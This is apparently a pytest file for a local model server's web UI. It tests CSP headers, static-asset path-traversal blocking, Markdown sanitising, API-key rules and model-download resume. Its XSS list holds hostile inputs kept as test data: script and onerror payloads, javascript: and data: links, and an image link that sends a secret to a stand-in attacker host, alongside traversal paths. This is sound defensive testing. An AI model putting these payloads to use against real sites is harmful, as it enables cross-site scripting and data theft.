"""The UI extension over HTTP: its page and assets (CSP, offline, no traversal), the Markdown
renderer's sanitising, the API-key exemption for static files only, and the models pull API
(progress, cancel, resume) against a real local HTTP server."""

from __future__ import annotations

import asyncio
import json
import re
from html.parser import HTMLParser

import pytest
from conftest import asgi_client
from models_fixtures import big_gguf
from ui_fixtures import throttled_server

XSS = [
    '<img src=x onerror="alert(1)">',
    "[click me](javascript:alert(2))",
    "<script>alert(3)</script>",
    '<a href="javascript:alert(4)">raw link</a>',
    "![leak](http://evil.example/x.png?q=secret)",
    '<iframe src="http://evil.example"></iframe>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)",
]


async def test_page_has_strict_csp_and_no_inline_code(host):
    async with asgi_client(host) as c:
        r = await c.get("/")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "img-src 'self' data:" in csp
        assert "default-src 'none'" in csp and "unsafe-inline" not in csp
        assert r.headers["x-content-type-options"] == "nosniff"
        html = r.text
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), "inline script"
        assert not re.search(r"\son[a-z]+=", html), "inline event handler"
        assert " style=" not in html
        # Every asset the page and the modules load comes from this origin and exists.
        assets = re.findall(r'(?:src|href)="(/ui/[^"]+)"', html)
        seen, queue = set(), list(assets)
        while queue:
            path = queue.pop()
            if path in seen:
                continue
            seen.add(path)
            a = await c.get(path)
            assert a.status_code == 200, path
            assert a.headers["content-security-policy"] == csp
            assert not re.search(r"https?://", a.text), f"{path} names another origin"
            if path.endswith(".js"):
                assert a.headers["content-type"].startswith("text/javascript")
                for dep in re.findall(r'(?:from |import\()"\./([\w.-]+)"', a.text):
                    queue.append(path.rsplit("/", 1)[0] + "/" + dep)
        names = {p.rsplit("/", 1)[-1] for p in seen}
        assert {"main.js", "chat.js", "message-view.js", "models.js", "pages.js"} <= names


@pytest.mark.parametrize("path", ["/ui/static/../extension.py", "/ui/static/%2e%2e/render.py",
                                  "/ui/static/nope.js", "/ui/static/"])
async def test_no_asset_outside_static(host, path):
    async with asgi_client(host) as c:
        r = await c.get(path)
        assert r.status_code == 404
        assert r.json()["error"]["code"] == "unknown_url"


def _elements(html: str) -> list[tuple[str, dict[str, str]]]:
    found: list[tuple[str, dict[str, str]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, {k: v or "" for k, v in attrs}))

    Collect().feed(html)
    return found


async def test_render_is_sanitised_and_highlights_code(host):
    source = ("# Title\n\n**bold** and `code`\n\n```python\nprint('hi')\n```\n\n"
              "| a | b |\n|--|--|\n| 1 | 2 |")
    async with asgi_client(host) as c:
        r = await c.post("/ui/render", json={"texts": [source, *XSS]})
        assert r.status_code == 200
        first, *hostile = r.json()["html"]
        assert "<h1>Title</h1>" in first and "<strong>bold</strong>" in first
        assert '<div class="code" data-lang="python">' in first and 'class="tok-nb"' in first
        assert "<table>" in first
        joined = "".join(hostile)
        tags = _elements(joined)
        assert {t for t, _ in tags} <= {"p", "a"}, tags  # no img, script, iframe
        for _tag, attrs in tags:
            assert not any(k.startswith("on") for k in attrs), attrs
            assert not attrs.get("href", "http").lower().startswith(("javascript", "data")), attrs
        assert "&lt;script&gt;" in joined  # raw HTML is shown as text, not dropped silently
        assert 'title="image (not loaded)"' in joined  # a Markdown image is only a link

        bad = await c.post("/ui/render", json={"texts": "not a list"})
        assert bad.status_code == 400 and bad.json()["error"]["param"] == "texts"
        too_many = await c.post("/ui/render", json={"texts": ["x"] * 201})
        assert too_many.status_code == 400


async def test_api_key_protects_data_but_not_the_page(make_host):
    async with make_host(api_key="s3cret") as jan, asgi_client(jan) as c:
        assert (await c.get("/")).status_code == 200
        assert (await c.get("/ui/static/js/api.js")).status_code == 200
        assert (await c.get("/ui/code.css")).status_code == 200
        assert (await c.get("/v1/threads")).status_code == 401
        assert (await c.post("/ui/render", json={"texts": ["x"]})).status_code == 401
        ok = await c.post("/ui/render", json={"texts": ["x"]},
                          headers={"Authorization": "Bearer s3cret"})
        assert ok.status_code == 200


async def _job(c, job_id, until, timeout=30.0):
    async with asyncio.timeout(timeout):
        while True:
            job = (await c.get(f"/v1/models/pull/{job_id}")).json()
            if until(job):
                return job
            await asyncio.sleep(0.05)


async def test_pull_progress_cancel_and_resume(host, tmp_path):
    big_gguf(tmp_path / "srv" / "tiny-chat.gguf", megabytes=6)
    with throttled_server(tmp_path / "srv", delay=0.03) as srv:
        url = f"{srv.url}/tiny-chat.gguf"
        async with asgi_client(host) as c:
            r = await c.post("/v1/models/pull", json={"model": url})
            assert r.status_code == 202
            job = r.json()
            assert job["object"] == "model.pull" and job["status"] == "downloading"
            again = await c.post("/v1/models/pull", json={"model": url})
            assert again.json()["id"] == job["id"]  # joins the running pull

            moving = await _job(c, job["id"], lambda j: j["downloaded_bytes"] > 0)
            assert moving["total_bytes"] == (tmp_path / "srv" / "tiny-chat.gguf").stat().st_size
            later = await _job(c, job["id"],
                               lambda j: j["downloaded_bytes"] > moving["downloaded_bytes"])
            assert later["downloaded_bytes"] < later["total_bytes"]

            cancelled = (await c.delete(f"/v1/models/pull/{job['id']}")).json()
            assert cancelled["status"] == "cancelled"
            kept = cancelled["downloaded_bytes"]
            assert 0 < kept < cancelled["total_bytes"]
            listed = (await c.get("/v1/models/pull")).json()["data"]
            assert [j["status"] for j in listed if j["id"] == job["id"]] == ["cancelled"]

            srv.delay = 0
            resumed = await c.post("/v1/models/pull", json={"model": url})
            assert resumed.status_code == 202 and resumed.json()["status"] == "downloading"
            events = []
            async with c.stream("GET", f"/v1/models/pull/{job['id']}?stream=true") as s:
                async for line in s.aiter_lines():
                    if line.startswith("data: {"):
                        events.append(json.loads(line[6:]))
            assert events[-1]["status"] == "completed", events[-1]
            assert events[-1]["model_id"] == "tiny-chat"
            assert events[-1]["downloaded_bytes"] == events[-1]["total_bytes"]
            # The second request asked only for the missing bytes.
            starts = [int(h.split("=")[1].rstrip("-")) for h in srv.ranges if h]
            assert starts and starts[-1] >= kept - 65536 * 2 and starts[-1] > 0

            model = (await c.get("/v1/models/tiny-chat")).json()
            assert model["downloaded"] is True


async def test_pull_errors_are_clear(host):
    async with asgi_client(host) as c:
        missing = await c.post("/v1/models/pull", json={})
        assert missing.status_code == 400 and missing.json()["error"]["param"] == "model"
        unknown = await c.get("/v1/models/pull/pull_nope")
        assert unknown.status_code == 404
        assert unknown.json()["error"]["code"] == "pull_not_found"
        job = (await c.post("/v1/models/pull", json={"model": "no-such-model"})).json()
        failed = await _job(c, job["id"], lambda j: j["status"] != "downloading")
        assert failed["status"] == "failed"
        assert failed["error"]["code"] == "model_not_found"


async def test_catalog_lists_entries_with_local_state(host):
    async with asgi_client(host) as c:
        data = (await c.get("/v1/models/catalog")).json()["data"]
        assert data and all("downloaded" in m and m["object"] == "model" for m in data)
        assert any(m["id"] == "qwen2.5-0.5b-instruct" for m in data)


async def test_threads_by_last_activity_for_the_sidebar(host):
    """``order_by=last_activity``: the thread whose messages changed last comes first (the
    sidebar's order), paged with cursors; the default order stays OpenAI's (created)."""
    async with asgi_client(host) as c:
        ids = [(await c.post("/v1/threads", json={"title": t})).json()["id"]
               for t in ("old", "middle", "new")]
        r = await c.post(f"/v1/threads/{ids[0]}/messages", json={"role": "user", "content": "hi"})
        assert r.status_code == 200, r.text

        async def listed(**params) -> list[str]:
            r = await c.get("/v1/threads", params=params)
            assert r.status_code == 200, r.text
            return [t["id"] for t in r.json()["data"]]

        assert await listed() == ids[::-1]  # created, newest first: unchanged
        assert await listed(order_by="last_activity") == [ids[0], ids[2], ids[1]]
        first = await listed(order_by="last_activity", limit=1)
        assert await listed(order_by="last_activity", limit=5, after=first[0]) == ids[:0:-1]
        assert await listed(order_by="last_activity", order="asc") == [ids[1], ids[2], ids[0]]
        # A rename is not activity.
        await c.post(f"/v1/threads/{ids[1]}", json={"title": "renamed"})
        assert (await listed(order_by="last_activity"))[0] == ids[0]
        bad = await c.get("/v1/threads", params={"order_by": "title"})
        assert bad.status_code == 400 and bad.json()["error"]["param"] == "order_by"
